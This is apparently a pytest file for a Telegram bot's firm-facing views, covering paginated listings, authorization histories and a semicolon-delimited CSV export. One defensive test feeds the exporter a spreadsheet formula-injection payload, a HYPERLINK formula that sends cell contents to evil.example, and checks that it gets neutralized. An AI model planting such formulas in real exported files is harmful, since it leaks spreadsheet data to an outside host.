"""What the firm's commands show, rendered without a bot: listings, history, the CSV."""

import csv
import html
import io
import re
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from bot.guide.guide import Guide, load_guide
from bot.storage.repository import Authorization, Event
from bot.wiring.assembly import firm_facts
from conversations.firm import firm_views
from tests.support.harness import make_settings

TZ = ZoneInfo("America/Santiago")
# 12:00 in Santiago (summer time, UTC-3).
NOON = datetime(2026, 11, 24, 15, 0, tzinfo=UTC)
BOM = b"\xef\xbb\xbf"


@pytest.fixture
def guide(tmp_path: Path) -> Guide:
    settings = make_settings(tmp_path)
    return load_guide(settings.guide_path, firm_facts(settings))


def auth(company_rut: str = "76086428-5", **fields: object) -> Authorization:
    values: dict[str, object] = {
        "company_rut": company_rut,
        "client_chat_id": 777_001,
        "client_user_id": 777_001,
        "client_name": "Juana",
        "client_username": "juana_pyme",
        "step": 3,
        "started_at": NOON,
        "last_activity_at": NOON,
        "completed_at": None,
    }
    values.update(fields)
    return Authorization(**values)  # type: ignore[arg-type]


def visible(text: str) -> str:
    """What Telegram shows (and counts) of an HTML text."""
    return html.unescape(re.sub(r"<[^>]+>", "", text))


# --- page_count -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("total", "pages"), [(0, 1), (1, 1), (14, 1), (15, 1), (16, 2), (30, 2), (31, 3), (40, 3)]
)
def test_page_count(total: int, pages: int) -> None:
    assert firm_views.PAGE_SIZE == 15
    assert firm_views.page_count(total) == pages


# --- pending_page -----------------------------------------------------------------------


def test_pending_page_empty(guide: Guide) -> None:
    assert firm_views.pending_page(guide, [], 0, 1, TZ) == guide.message("list_empty")


def test_pending_page_lines_show_progress_reminders_and_marks(guide: Guide) -> None:
    items = [
        auth("76086428-5", step=0, client_chat_id=None, client_name=None, invited_name="Ana"),
        auth("11111111-1", step=4, reminders_sent=2, last_activity_at=NOON + timedelta(hours=1)),
        auth("22222222-2", step=2, opted_out_at=NOON, invited_name="Pedro"),
        auth("33333333-3", step=5, blocked_at=NOON, client_name=None),
    ]
    text = firm_views.pending_page(guide, items, 40, 2, TZ)
    lines = text.split("\n")
    assert lines[0] == guide.message("pending_title", total=40, page=2, pages=3)

    def line(rut: str, name: str, progress: str, when: str, reminders: int, marks: str = "") -> str:
        return guide.message(
            "pending_line",
            {"progress": progress, "marks": marks},
            company_rut=rut,
            client_name=name,
            when=when,
            reminders=reminders,
        )

    def step(n: int) -> str:
        return guide.message("progress_step", step=n)

    assert lines[1:] == [
        line("76.086.428-5", "Ana", guide.message("progress_invited"), "24-11-2026 12:00", 0),
        line("11.111.111-1", "Juana", step(4), "24-11-2026 13:00", 2),
        line(
            "22.222.222-2", "Pedro", step(2), "24-11-2026 12:00", 0, guide.message("mark_opted_out")
        ),
        line("33.333.333-3", "—", step(5), "24-11-2026 12:00", 0, guide.message("mark_blocked")),
    ]


def test_pending_page_escapes_names_for_html(guide: Guide) -> None:
    text = firm_views.pending_page(guide, [auth(invited_name="<b>Pérez & Cía</b>")], 1, 1, TZ)
    assert "&lt;b&gt;Pérez &amp; Cía&lt;/b&gt;" in text
    assert "<b>Pérez" not in text


def test_a_full_page_of_the_longest_names_fits_one_message(guide: Guide) -> None:
    # Telegram full names reach 64 + 1 + 64 characters; both marks at once is the worst case.
    longest = "Ñ" * 64 + " " + "&" * 64
    items = [
        auth(f"{10_000_000 + n}-K", client_name=longest, opted_out_at=NOON, blocked_at=NOON)
        for n in range(firm_views.PAGE_SIZE)
    ]
    text = firm_views.pending_page(guide, items, 999, 1, TZ)
    assert text.count("\n") == firm_views.PAGE_SIZE
    assert len(visible(text)) <= 4096


# --- completed_page ---------------------------------------------------------------------


def test_completed_page_empty(guide: Guide) -> None:
    assert firm_views.completed_page(guide, [], 0, 1, None, TZ) == guide.message("list_empty")


def test_completed_page_lines_and_since(guide: Guide) -> None:
    items = [
        auth("76086428-5", completed_at=NOON, verified_at=NOON, verified_by="@ana"),
        auth("11111111-1", completed_at=NOON - timedelta(days=1), invited_name="Pedro"),
    ]
    since = datetime(2026, 11, 23, 3, 0, tzinfo=UTC)  # 23-11-2026 00:00 in Santiago
    text = firm_views.completed_page(guide, items, 16, 1, since, TZ)
    since_text = guide.message("completed_since", date="23-11-2026")
    assert text.split("\n") == [
        guide.message("completed_title", {"since": since_text}, total=16, page=1, pages=2),
        guide.message(
            "completed_line",
            {"verified": guide.message("completed_verified")},
            company_rut="76.086.428-5",
            client_name="Juana",
            when="24-11-2026 12:00",
        ),
        guide.message(
            "completed_line",
            {"verified": ""},
            company_rut="11.111.111-1",
            client_name="Pedro",
            when="23-11-2026 12:00",
        ),
    ]
    without = firm_views.completed_page(guide, items[:1], 1, 1, None, TZ)
    assert without.split("\n")[0] == guide.message(
        "completed_title", {"since": ""}, total=1, page=1, pages=1
    )


# --- history ----------------------------------------------------------------------------


def title(guide: Guide, state: str, client_name: str = "Juana") -> str:
    """The first lines of a history (state: already rendered)."""
    return guide.message(
        "status_title",
        {"state": state},
        company_rut="76.086.428-5",
        client_name=client_name,
        client_username="@juana_pyme",
    )


@pytest.mark.parametrize(
    ("fields", "state"),
    [
        ({"step": 0, "client_name": None, "invited_name": "Ana"}, [("state_invited", {})]),
        ({"step": 4}, [("state_pending", {"step": 4})]),
        ({"step": 4, "blocked_at": NOON}, [("state_pending", {"step": 4}), ("mark_blocked", {})]),
        ({"step": 7, "completed_at": NOON}, [("state_completed", {"when": "24-11-2026 12:00"})]),
        (
            {"step": 7, "completed_at": NOON, "verified_at": NOON, "verified_by": "@ana"},
            [("state_verified", {"when": "24-11-2026 12:00", "actor": "@ana"})],
        ),
    ],
)
def test_history_title_states(
    guide: Guide, fields: dict[str, object], state: list[tuple[str, dict[str, object]]]
) -> None:
    (text,) = firm_views.history(guide, auth(**fields), [], TZ)
    shown = "".join(guide.message(key, **values) for key, values in state)
    name = "Ana" if fields.get("invited_name") else "Juana"
    assert text.startswith(title(guide, shown, name) + "\n")


def test_history_lists_every_kind_of_event(guide: Guide) -> None:
    kinds = [
        ("invited", None, "-100555", {}),
        ("invitation_opened", None, None, {}),
        ("started", 1, None, {}),
        ("step", 2, None, {"step": 2}),
        ("reminder", None, "@ana", {}),
        ("remind_later", None, None, {}),
        ("opted_out", None, None, {}),
        ("blocked", None, None, {}),
        ("completed", 7, None, {}),
        ("rejected", 3, "@ana", {"actor": "@ana", "step": 3}),
        ("verified", None, "@ana", {"actor": "@ana"}),
    ]
    events = [
        Event(NOON + timedelta(minutes=n), kind, step, actor)
        for n, (kind, step, actor, _) in enumerate(kinds)
    ]
    (text,) = firm_views.history(guide, auth(), events, TZ)
    lines = text.split("\n")
    assert lines[:3] == title(guide, guide.message("state_pending", step=3)).split("\n")
    assert lines[3] == ""
    assert lines[4:] == [
        guide.message(
            "event_line",
            {"what": guide.message(f"event_{kind}", **values)},
            when=f"24-11-2026 12:{n:02d}",
        )
        for n, (kind, _, _, values) in enumerate(kinds)
    ]


def test_a_very_long_history_is_split_under_telegrams_limit(guide: Guide) -> None:
    events = [
        Event(NOON + timedelta(minutes=n), "reminder" if n % 2 else "step", n % 7 + 1, "@ana")
        for n in range(1500)
    ]
    texts = firm_views.history(guide, auth(), events, TZ)
    assert len(texts) > 1
    assert all(0 < len(text) <= 4096 for text in texts)
    assert texts[0].startswith(title(guide, guide.message("state_pending", step=3)))
    # Nothing lost, nothing repeated, nothing cut in half, order kept.
    event_lines = [line for text in texts for line in text.split("\n") if line.startswith("• ")]
    assert len(event_lines) == 1500
    assert event_lines == [
        firm_views.history(guide, auth(), [event], TZ)[0].split("\n")[-1] for event in events
    ]


# --- export_csv -------------------------------------------------------------------------


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_export_csv_header_only(guide: Guide) -> None:
    data = firm_views.export_csv([], TZ)
    assert data.startswith(BOM)
    assert data == BOM + (";".join(firm_views.CSV_HEADER) + "\r\n").encode()
    assert _rows(data) == [list(firm_views.CSV_HEADER)]
    assert firm_views.CSV_HEADER[:3] == ("rut_empresa", "cliente", "nombre_dado_por_la_firma")


def test_export_csv_rows_states_and_escaping() -> None:
    rows = [
        auth(
            "76086428-5",
            client_name='José "Pepe" Núñez; Ltda',
            invited_name="Núñez; Pérez",
            reminders_sent=2,
            opted_out_at=NOON,
        ),
        auth(
            "11111111-1",
            step=7,
            client_name="Ana",
            client_username=None,
            completed_at=NOON + timedelta(minutes=7),
            verified_at=NOON + timedelta(hours=1),
            verified_by="Ana María",
            blocked_at=NOON,
        ),
        auth(
            "22222222-2",
            step=0,
            client_chat_id=None,
            client_user_id=None,
            client_name=None,
            client_username=None,
            invited_name=None,
        ),
        auth("33333333-3", step=7, completed_at=NOON),
    ]
    data = firm_views.export_csv(rows, TZ)
    assert data.startswith(BOM)
    assert b"\r\n" in data and data.count(b"\r\n") == 5
    parsed = _rows(data)
    assert parsed[1] == [
        "76.086.428-5",
        'José "Pepe" Núñez; Ltda',
        "Núñez; Pérez",
        "juana_pyme",
        "777001",
        "3",
        "pendiente",
        "24-11-2026 12:00",
        "24-11-2026 12:00",
        "",
        "",
        "",
        "2",
        "sí",
        "",
    ]
    assert parsed[2] == [
        "11.111.111-1",
        "Ana",
        "",
        "",
        "777001",
        "7",
        "verificada",
        "24-11-2026 12:00",
        "24-11-2026 12:00",
        "24-11-2026 12:07",
        "24-11-2026 13:00",
        "Ana María",
        "0",
        "",
        "sí",
    ]
    assert parsed[3][:8] == ["22.222.222-2", "", "", "", "", "0", "invitada", "24-11-2026 12:00"]
    assert parsed[4][6] == "completada"
    # The raw bytes quote what needs it, in UTF-8.
    assert '"José ""Pepe"" Núñez; Ltda"'.encode() in data


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/x?d="&A1,"clic")',
        "+56 9 1234 5678",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_export_csv_neutralizes_formulas(name: str) -> None:
    data = firm_views.export_csv(
        [auth(client_name=name, invited_name=name, verified_by=name, completed_at=NOON)], TZ
    )
    row = _rows(data)[1]
    assert row[1] == row[2] == row[11] == "'" + name


def test_export_csv_leaves_ordinary_names_alone() -> None:
    row = _rows(firm_views.export_csv([auth(client_name="Ana = jefa", invited_name="'x")], TZ))[1]
    assert row[1:3] == ["Ana = jefa", "'x"]


def test_export_csv_no_cell_starts_with_a_formula_trigger() -> None:
    rows = _rows(firm_views.export_csv([auth()], TZ))[1:]
    cells = [cell for row in rows for cell in row]
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []


def test_export_csv_times_are_local() -> None:
    winter = datetime(2026, 7, 1, 16, 0, tzinfo=UTC)  # UTC-4 in July: 12:00 local
    row = _rows(firm_views.export_csv([replace(auth(), started_at=winter)], TZ))[1]
    assert row[7] == "01-07-2026 12:00"
